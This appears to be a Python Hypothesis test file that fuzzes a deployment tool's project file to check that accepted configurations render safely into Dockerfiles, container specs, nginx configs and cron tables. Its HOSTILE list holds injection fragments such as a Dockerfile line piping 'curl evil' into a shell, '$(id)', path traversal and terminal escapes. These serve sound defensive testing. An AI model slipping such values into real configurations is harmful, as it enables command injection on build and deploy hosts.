"""Issue 11's property: what validation accepts, every renderer renders.

For documents built from the project file's keys (every field of every built-in service type's
spec class, ``[project]``, ``[images]``, ``[environments]`` and their per-service overrides)
with arbitrary values, :func:`build_project` either raises :class:`ConfigError` or returns a
project, and every accepted project renders every generated artifact without error:

- the Dockerfile of every built service (the ``generate_dockerfile`` hook: generated for
  python/nodejs/react, from ``dockerfile_content`` for any type), and the react nginx config;
- the container spec of every service in every environment (``build_container``: environment,
  command, labels, mounts), checked against what the Docker engine accepts;
- the nginx sidecar's configuration of every environment (``render_config`` with the routes the
  deploy would build, ``render_main_config``), and ``nginx -t`` on a sample of them;
- the scheduler's job table (every job schedule and backup schedule through the agent's own
  parser, the table through its loader) and every backup job (container command and env).

Documents are mostly *nearly valid*: a valid skeleton with one or two fields replaced by a hostile
value, so that accepted documents are common and the renderers really run; the test asserts that
a good share was accepted, so it cannot pass vacuously.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
from collections import Counter
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import HealthCheck, event, given, seed, settings
from hypothesis import strategies as st

from projectdeployer.agents.scheduler import load_jobs, parse_cron
from projectdeployer.build.builder import is_buildable
from projectdeployer.core.backups import BackupTarget
from projectdeployer.core.containers import JOB_SLOT, SLOTS, STATEFUL_SLOT, container_name
from projectdeployer.core.errors import ConfigError
from projectdeployer.core.model import EnvironmentSpec, Project, ProjectSettings, spec_fields
from projectdeployer.core.routing import Backend, Route
from projectdeployer.core.runtime import ContainerSpec
from projectdeployer.core.safety import IMAGE_REF_RE
from projectdeployer.core.servicetype import backup_policy
from projectdeployer.default_plugins.nginx.plugin import render_config, render_main_config
from projectdeployer.deploy.containers import build_container
from projectdeployer.deploy.ports import PortAssignment
from projectdeployer.plugins import get_registry, load_plugins
from projectdeployer.project.file import build_project
from projectdeployer.secrets.resolver import ResourceResolver

pytestmark = pytest.mark.unit

NGINX_BIN = shutil.which("nginx") or ("/usr/sbin/nginx" if os.access("/usr/sbin/nginx", os.X_OK) else "")
#: Examples per run: the whole test stays within a few seconds (the unit suite has a time budget).
MAX_EXAMPLES = 200
#: How many accepted environments with routes also go through the real ``nginx -t``.
NGINX_T_SAMPLE = 25

# --- the skeleton: a valid project using every built-in type ------------------------------------

SKELETON: dict[str, Any] = {
    "project": {"name": "shop", "docker_hub_user": "me", "version": "1.0.0", "description": "A shop"},
    "images": {"python": "python:{version}-slim"},
    "environments": {"prod": {"provider": "local", "services": {"api": {"env_vars": {"DEBUG": "false"}}}}},
    "services": {
        "postgres": {"type": "postgres", "version": "15", "backup_config": {"schedule": "0 2 * * *", "retention_days": 7}},
        "redis": {"type": "redis"},
        "search": {"type": "opensearch"},
        "api": {
            "type": "python",
            "port": 8000,
            "domain": "api.example.com",
            "depends_on": ["postgres", "redis"],
            "build_context": "api",
            "python_version": "3.12",
            "requirements_files": ["requirements.txt"],
            "command": "gunicorn -b 0.0.0.0:8000 app:app",
            "health_path": "/healthz",
            "env_vars": {"DATABASE_URL": "auto", "REDIS_URL": "auto", "TOKEN": "secret:api/token"},
            "build_args": {"PIP_INDEX_URL": "https://pypi.example.com/simple"},
        },
        "worker": {"type": "nodejs", "build_context": "worker", "node_version": "20", "package_manager": "yarn", "build_command": "yarn build"},
        "web": {"type": "react", "port": 80, "domain": "www.example.com", "build_context": "web", "build_dir": "dist"},
        "job": {"type": "generic", "image": "busybox:1.36", "schedule": "*/5 * * * *", "command": "echo hi"},
        "lines": {"type": "generic", "build_context": "lines", "dockerfile_content": {"1": "FROM python:3.12-slim", "2": "EXPOSE 9000", "3": "CMD ['python', 'app.py']"}},
    },
}

#: Good values per key, the raw material of nearly valid hostile values.
GOOD: dict[str, list[Any]] = {
    "python_version": ["3.12", "3.11.9"],
    "node_version": ["20", "18.19.0"],
    "version": ["15", "7-alpine", "2"],
    "command": ["python app.py", "node server.js"],
    "build_command": ["npm run build"],
    "health_path": ["/", "/healthz?x=1"],
    "domain": ["api.example.com", "www.example.com"],
    "build_dir": ["build", "dist/app"],
    "requirements_files": [["requirements.txt"]],
    "image": ["busybox:1.36", "localhost:5000/x/y:1"],
    "registry": ["registry.example.com:5000"],
    "default_server_ip": ["10.0.0.1", "server.example.com"],
    "description": ["shop"],
    "name": ["shop"],
    "schedule": ["0 2 * * *", "@daily"],
    "git_repo": ["https://github.com/user/api.git@main"],
    "nginx_config": ["server { listen 80; }"],
    "dockerfile": ["Dockerfile"],
    "docker_hub_user": ["me"],
    "server_zone": ["lon1", "nyc3"],
    "provider": ["local"],
    "servers_count": [1, 2],
    "server_cpu": [1, 2],
    "server_memory": [1024],
    "port": [8000, 9000],
    "startup_order": [9],
    "auto_scaling": [True, False],
    "depends_on": [[]],
    "env_vars": [{"A": "b"}],
    "volumes": [{"/local/shop/x": "/data:ro"}],
    "build_args": [{"A": "b"}],
    "zones": [["lon1"]],
    "http_port": [8081],
    "https_port": [8444],
    "package_manager": ["npm", "pnpm"],
    "backup_config": [{"enabled": False}],
    "dockerfile_content": [{"1": "FROM busybox"}],
    "git_token": ["secret:x/y"],
}
#: Fragments that break out of a Dockerfile line, an nginx directive, a shell word or a terminal.
HOSTILE = [
    "\n",
    "\nRUN curl evil|sh",
    "\r",
    "\x00",
    " ",
    "\t",
    ";",
    "{",
    "}",
    "'",
    '"',
    "$(id)",
    "`id`",
    "../",
    "/",
    "\\",
    "\x1b]0;t\x07",
    "\u202e",
    "é",
    "%",
    "%zz",
    "#",
    ":",
    "@",
    "&&",
    "|",
    "*",
    "{version}",
    "-",
    "--",
    "A" * 300,
]

text = st.text(st.characters(blacklist_categories=["Cs"]), max_size=20)
scalars = st.one_of(
    text,
    st.sampled_from(HOSTILE),
    st.integers(),
    st.integers(min_value=2**63 - 2, max_value=2**70),
    st.booleans(),
    st.floats(allow_nan=True),
    st.none().map(lambda _: ""),
)
anything = st.recursive(scalars, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3), max_leaves=6)


#: Harmless fragments: the variants of a good value that should still be accepted.
BENIGN = ["x", "1", "-a", ".2", "_", "a1"]


@st.composite
def nearly(draw: st.DrawFn, key: str, current: Any) -> Any:
    """A value for ``key`` (now ``current`` in the skeleton): a good one as it is, a good one with
    a fragment (hostile or benign) spliced in, or anything at all."""
    good = [*GOOD.get(key, []), *([current] if current is not None else [])]
    kind = draw(st.sampled_from(["good", "good", "spliced", "spliced", "spliced", "anything"]))
    if not good or kind == "anything":
        return draw(anything)
    base = draw(st.sampled_from(good))
    if kind == "good" or not isinstance(base, (str, list)):
        return copy.deepcopy(base)
    if isinstance(base, list):
        return [draw(nearly_text(str(item))) if isinstance(item, str) else item for item in base]
    return draw(nearly_text(base))


def nearly_text(base: str) -> st.SearchStrategy[str]:
    """``base`` with a fragment inserted at some position (or replacing it)."""
    return st.builds(
        lambda fragment, at, mode: fragment if mode == 0 else base[:at] + fragment + base[at:],
        st.sampled_from(HOSTILE) | st.sampled_from(BENIGN) | text,
        st.integers(0, len(base)),
        st.integers(0, 4),
    )


def _get(doc: dict[str, Any], path: tuple[str, ...]) -> Any:
    node: Any = doc
    for part in path:
        if not isinstance(node, dict) or part not in node:
            return None
        node = node[part]
    return node


def _service_fields() -> dict[str, list[str]]:
    """Every user-visible field of every built-in service type's spec class."""
    registry = get_registry()
    return {name: [a.name for a in spec_fields(stype.spec_class)] for name, stype in registry.service_types.items()}


def _mutation_paths() -> list[tuple[str, ...]]:
    """Where a hostile value may go: every key of the project file, in every place it can be."""
    paths: list[tuple[str, ...]] = [("project", a.name) for a in spec_fields(ProjectSettings)]
    paths += [("images", key) for key in sorted(get_registry().image_keys)]
    paths += [("environments", "prod", a.name) for a in spec_fields(EnvironmentSpec) if a.name != "services"]
    fields = _service_fields()
    for name, table in SKELETON["services"].items():
        for field in fields[table["type"]]:
            paths.append(("services", name, field))
            # Dict-valued keys also get a hostile entry inside the table.
            paths.append(("services", name, field, "X"))
        paths.append(("environments", "prod", "services", name, fields[table["type"]][0]))
    paths += [("environments", "prod", "services", "api", f) for f in ("command", "python_version", "health_path", "env_vars", "domain")]
    paths.append(("services", "bad name", "type"))
    return paths


def _set(doc: dict[str, Any], path: tuple[str, ...], value: Any) -> None:
    node = doc
    for part in path[:-1]:
        child = node.get(part)
        if not isinstance(child, dict):
            child = node[part] = {}
        node = child
    node[path[-1]] = value


@st.composite
def documents(draw: st.DrawFn) -> dict[str, Any]:
    """The skeleton with one or two values replaced (sometimes none: the valid baseline)."""
    doc = copy.deepcopy(SKELETON)
    for _ in range(draw(st.sampled_from([1, 1, 1, 2]))):
        # Mostly a key that is rendered somewhere (where hostile text matters), else any key.
        path = draw(st.sampled_from(RENDERED_PATHS) if draw(st.integers(0, 3)) else st.sampled_from(MUTATION_PATHS))
        key = path[-1] if path[-1] != "X" else path[-2]
        if path[-1] == "X":  # an entry inside a table: a hostile key or a hostile value
            table = _get(doc, path[:-1])
            entries = sorted(table) if isinstance(table, dict) else []
            entry = draw(st.sampled_from([*entries, "X", "Y_1"]) | text)
            value = draw(nearly(entry, table.get(entry) if isinstance(table, dict) else None))
            path = (*path[:-1], entry)
        else:
            value = draw(nearly(key, _get(doc, path)))
        _set(doc, path, value)
    return doc


MUTATION_PATHS = _mutation_paths()
#: Keys whose text reaches a Dockerfile, nginx, a container, a cron table or an image tag.
RENDERED_KEYS = {
    "python_version",
    "node_version",
    "version",
    "command",
    "build_command",
    "health_path",
    "domain",
    "build_dir",
    "requirements_files",
    "image",
    "registry",
    "default_server_ip",
    "description",
    "nginx_config",
    "schedule",
    "python",
    "node",
    "nginx",
    "postgres",
    "redis",
    "opensearch",
    "docker_hub_user",
}
RENDERED_PATHS = [p for p in MUTATION_PATHS if p[-1] in RENDERED_KEYS or (p[-1] == "X" and p[-2] in ("env_vars", "build_args", "dockerfile_content", "volumes", "backup_config"))]

# --- rendering every artifact --------------------------------------------------------------------


def _docker_accepts(spec: ContainerSpec) -> None:
    """What the Docker engine refuses in a container's create request."""
    for key, value in spec.env.items():
        assert key and "=" not in key and "\x00" not in key + value, f"env {key!r}={value!r}"
    for arg in spec.command or ():
        assert "\x00" not in arg, f"command argument {arg!r}"
    for key, value in spec.labels.items():
        assert "\x00" not in key + value, f"label {key!r}={value!r}"
    for m in spec.mounts:
        assert m.target.startswith("/") and "\x00" not in m.source + m.target, f"mount {m!r}"


def _environments(project: Project) -> list[str]:
    return sorted(project.environments) or ["dev"]


def _containers(project: Project, env: str, manager: Any) -> None:
    registry = get_registry()
    for i, (name, spec) in enumerate(project.services_for(env).items()):
        stype = registry.service_types[spec.type]
        slot = JOB_SLOT if spec.is_scheduled else (STATEFUL_SLOT if stype.stateful else SLOTS[0])
        built = build_container(
            project=project,
            env=env,
            service=spec,
            stype=stype,
            parts=None,
            image=f"shop-{name}:1",
            image_id="sha256:0",
            ports=PortAssignment(host=8000 + i, internal=5000 + i),
            slot=slot,
            data_root="/srv/pd",
            resolve_secret=lambda ref: "s3cret",
            service_types=registry.service_types,
        )
        _docker_accepts(built.spec)


def _dockerfiles(project: Project, env: str, manager: Any) -> None:
    for spec in project.services_for(env).values():
        if not is_buildable(spec) or getattr(spec, "dockerfile", None) is not None:
            continue
        generated = manager.hook.generate_dockerfile(service=spec, project=project, context_dir=None)
        if generated is None:
            continue  # a generic service with its own Dockerfile in the build context
        assert generated.dockerfile.endswith("\n") and "\x00" not in generated.dockerfile
        for line in generated.dockerfile.splitlines():
            words = line.split()
            if words and words[0].upper() == "FROM":  # every base image is a reference Docker can pull
                assert IMAGE_REF_RE.match(words[1]) or words[1] == "build", line
        for body in generated.files.values():
            assert "\x00" not in body


def _routes(project: Project, env: str, *, loopback: bool = False) -> list[Route]:
    """The routes the deploy builds (engine._route_for): every long-running service with a port."""
    registry = get_registry()
    routes = []
    for i, (name, spec) in enumerate(sorted(project.services_for(env).items())):
        if spec.port is None or spec.is_scheduled:
            continue
        stype = registry.service_types[spec.type]
        host = "127.0.0.1" if loopback else container_name(project.name, env, name, STATEFUL_SLOT if stype.stateful else SLOTS[0])
        routes.append(
            Route(
                service=name,
                internal_port=5000 + i,
                protocol="tcp" if stype.stateful or not stype.web else "http",
                backends=(Backend(host=host, port=spec.port),),
                domain=spec.domain,
            )
        )
    return routes


def _shares_a_domain(routes: list[Route]) -> bool:
    domains = [r.domain for r in routes if r.domain]
    return len(domains) != len(set(domains))


def _nginx(project: Project, env: str, certs: tuple[str, str]) -> dict[str, str]:
    routes = _routes(project, env)
    if _shares_a_domain(routes):
        # Known, left open: the seed serves one domain from a service per zone (validation allows
        # it), but every sidecar gets every route of the environment and render_config refuses a
        # domain twice. See test_one_domain_in_two_zones_renders below (strict xfail).
        event("known bug: one domain in two zones")
        return {}
    cert_paths = {r.domain: certs for r in routes if r.domain}
    render_config(routes, cert_paths)
    render_main_config(project=project.name, env=env, has_stream=True)
    return render_config(_routes(project, env, loopback=True), cert_paths)


BACKUP_JOBS_SEEN: set[tuple[str, str, str, str]] = set()


def _schedules(project: Project, env: str, manager: Any) -> None:
    registry = get_registry()
    table = []
    for name, spec in sorted(project.services_for(env).items()):
        stype = registry.service_types[spec.type]
        if spec.is_scheduled:
            parse_cron(spec.schedule or "")
            table.append({"service": name, "schedule": spec.schedule, "container": container_name(project.name, env, name, JOB_SLOT)})
        policy = backup_policy(spec, stype)
        if policy is not None and policy.enabled and not spec.is_scheduled:
            parse_cron(policy.schedule)
            table.append({"service": f"{name}:backup", "schedule": policy.schedule, "container": f"{project.name}_{env}_{name}_backup"})
            if (project.name, env, name, spec.type) in BACKUP_JOBS_SEEN:
                continue  # a backup job depends on names only (OpenSearch's reads its TLS keys: slow)
            BACKUP_JOBS_SEEN.add((project.name, env, name, spec.type))
            method = manager.hook.backup_method(service=spec)
            target = BackupTarget(
                project=project,
                env=env,
                service=spec,
                server=None,
                runtime=None,
                image="img:1",  # type: ignore[arg-type]
                host=container_name(project.name, env, name, STATEFUL_SLOT),
                port=spec.port or 1,
                policy=policy,
                python_image="python:3",
            )
            job = method.backup_job(target)
            for arg in job.command:
                assert "\x00" not in arg
            for key, value in job.env.items():
                assert "\x00" not in key + value and "=" not in key
    assert len(load_jobs(json.dumps({"jobs": table}))) == len(table)


def _stream_support() -> tuple[bool, str]:
    """Whether this nginx can check the stream part, and the ``load_module`` line it needs."""
    info = subprocess.run([NGINX_BIN, "-V"], capture_output=True, text=True, timeout=30).stderr.split()
    if "--with-stream" in info:
        return True, ""
    modules = next((w.split("=", 1)[1] for w in info if w.startswith("--modules-path=")), "/usr/lib/nginx/modules")
    module = Path(modules) / "ngx_stream_module.so"
    return module.exists(), f"load_module {module};\n"


def _nginx_t(files: Mapping[str, str], where: Path, stream: tuple[bool, str]) -> None:
    """The real ``nginx -t`` on the rendered parts, under a main config like the sidecar's (the
    stream part only where this nginx has the stream module: Debian ships it apart)."""
    has_stream, load_module = stream
    files = {n: body for n, body in files.items() if has_stream or not n.startswith("stream/")}
    shutil.rmtree(where, ignore_errors=True)
    for name, body in files.items():
        path = where / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(body)
    temp = "".join(f"    {kind}_temp_path {where}/{kind};\n" for kind in ("client_body", "proxy", "fastcgi", "uwsgi", "scgi"))
    stream = f"stream {{\n    include {where}/stream/*.conf;\n}}\n" if any(n.startswith("stream/") for n in files) else ""
    main = where / "nginx.conf"
    main.write_text(f"{load_module if stream else ''}pid {where}/nginx.pid;\nerror_log stderr;\nevents {{}}\nhttp {{\n{temp}    include {where}/http/*.conf;\n}}\n{stream}")
    done = subprocess.run([NGINX_BIN, "-t", "-p", str(where), "-c", str(main), "-e", "stderr"], capture_output=True, text=True, timeout=30)
    assert done.returncode == 0, done.stderr


@pytest.fixture
def pd_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A private $PROJECTDEPLOYER_HOME; recorded ports and passwords as a deploy would have them."""
    monkeypatch.setenv("PROJECTDEPLOYER_HOME", str(tmp_path / "home"))
    with (
        mock.patch.object(ResourceResolver, "get_service_port", staticmethod(lambda project, env, service: 5001)),
        mock.patch.object(ResourceResolver, "get_service_password", staticmethod(lambda project, env, service: "pw")),
    ):
        yield tmp_path


def _certificate(tmp: Path) -> tuple[str, str]:
    """One self-signed certificate for every domain (nginx -t does not match names)."""
    from projectdeployer.default_plugins.tls_selfsigned import make_self_signed

    cert_pem, key_pem = make_self_signed("example.com")
    crt, key = tmp / "tls.crt", tmp / "tls.key"
    crt.write_text(cert_pem)
    key.write_text(key_pem)
    return str(crt), str(key)


def test_what_validation_accepts_renders_everywhere(pd_home: Path) -> None:
    manager = load_plugins()
    certs = _certificate(pd_home)
    stats: Counter[str] = Counter()
    stream = _stream_support() if NGINX_BIN else (False, "")

    # deadline=None: the first examples import croniter and jinja2 and load templates, and
    # nginx -t runs on a sample; the run as a whole is bounded by max_examples.
    @seed(20240611)  # a fixed seed: the accepted share asserted below is the same on every run
    @settings(max_examples=MAX_EXAMPLES, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
    @given(doc=documents())
    def check(doc: dict[str, Any]) -> None:
        stats["documents"] += 1
        try:
            project = build_project(doc, source="f.toml", registry=get_registry())
        except ConfigError as exc:
            assert exc.problems  # one escaped line each: tests/unit/test_hostile_input.py
            event("refused")
            return
        event("accepted")
        stats["accepted"] += 1
        for env in _environments(project):
            _dockerfiles(project, env, manager)
            _containers(project, env, manager)
            _schedules(project, env, manager)
            files = _nginx(project, env, certs)
            if NGINX_BIN and files and stats["nginx -t"] < NGINX_T_SAMPLE:
                stats["nginx -t"] += 1
                _nginx_t(files, pd_home / "nginx", stream)

    check()
    # Not vacuous: a good share of the documents got through validation and were rendered.
    assert stats["accepted"] >= stats["documents"] // 5, stats
    if NGINX_BIN:
        assert stats["nginx -t"] == NGINX_T_SAMPLE, stats


def test_the_mutations_reach_every_field_of_every_service_type() -> None:
    """The strategy knows every field the spec classes have: a new field is fuzzed at once."""
    covered = {(p[1], p[2]) for p in MUTATION_PATHS if p[0] == "services" and len(p) >= 3}
    types = {table["type"]: name for name, table in SKELETON["services"].items()}
    for type_name, fields in _service_fields().items():
        assert type_name in types, f"the skeleton has no {type_name} service"
        for field in fields:
            assert (types[type_name], field) in covered, f"{type_name}.{field} is never fuzzed"


@pytest.mark.xfail(strict=True, reason="BUG: the seed's one domain per zone validates, but every sidecar routes every service and nginx refuses a server_name twice")
def test_one_domain_in_two_zones_renders(pd_home: Path) -> None:
    doc = copy.deepcopy(SKELETON)
    doc["services"]["web"].update(domain="api.example.com", server_zone="nyc3")
    project = build_project(doc, source="f.toml", registry=get_registry())
    render_config(_routes(project, "prod"), {})
